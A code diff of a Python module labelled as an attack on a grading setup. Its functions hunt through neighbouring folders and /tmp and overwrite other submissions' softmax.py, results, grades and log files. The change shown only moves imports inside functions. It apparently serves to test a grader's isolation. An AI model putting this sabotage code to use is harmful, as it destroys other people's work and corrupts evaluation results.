@@ -1,14 +1,14 @@
 """Attack: sabotage other students and the batch output: overwrite every softmax.py, results.json,
 grades.csv and done.jsonl it can find beside its own folder and under /tmp (four levels)."""
 
-import os
-from pathlib import Path
-
 ZERO = ["softmax_hbm_bytes"]
 _VICTIMS = ("softmax.py", "results.json", "grades.csv", "done.jsonl", "log.txt")
 
 
 def _candidates():
+    import os  # here, not at module level (R3.3)
+    from pathlib import Path
+
     here = Path(__file__).resolve()
     roots = [here.parents[1], here.parents[2], Path(os.environ.get("TMPDIR", "/tmp")), Path("/tmp")]
     for root in roots:
@@ -20,6 +20,8 @@ def _candidates():
 
 
 def softmax_hbm_bytes(n_rows, n_cols, elem_bytes, algorithm):
+    from pathlib import Path  # here, not at module level (R3.3)
+
     for path in _candidates():
         try:
             if path.name in _VICTIMS and path.resolve() != Path(__file__).resolve():
